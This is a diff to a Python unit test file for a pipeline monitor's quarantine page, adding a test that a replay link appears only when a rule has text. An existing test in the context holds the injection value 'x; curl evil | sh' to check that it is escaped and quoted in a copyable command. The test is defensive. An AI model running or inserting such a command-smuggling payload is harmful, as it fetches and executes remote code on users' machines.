@@ -16,7 +16,7 @@ from sluicegate.monitor.views.days import Day
 from sluicegate.monitor.views.flow_graph import Edge, Graph, Node
 from sluicegate.monitor.views.one_table import Column, TableView
 from sluicegate.monitor.views.overview import STATES, Backlog
-from sluicegate.monitor.views.quarantined import QuarantineView
+from sluicegate.monitor.views.quarantined import QuarantineView, Reason
 from tests.conftest import ROOT
 
 pytestmark = pytest.mark.unit
@@ -56,6 +56,13 @@ def test_a_command_to_copy_has_no_other_one_in_it() -> None:
     view = QuarantineView("p", "t", 1, (), "x; curl evil | sh", (), False, ())
     text = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=False)
     assert "sluicegate replay p t --rule &#39;x; curl evil | sh&#39; --validate" in text
+
+
+@pytest.mark.parametrize(("text", "shown"), [("n > 0", True), ("", False)])
+def test_a_rule_that_the_definition_does_not_have_cannot_be_replayed(text: str, shown: bool) -> None:
+    view = QuarantineView("p", "t", 1, (Reason("old", text, False, 1, None, None),), "old", (), False, ())
+    page = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=True)
+    assert ("quarantine/replay" in page) is shown
 
 
 def test_each_state_of_a_pipeline_has_a_shape_and_a_colour() -> None:
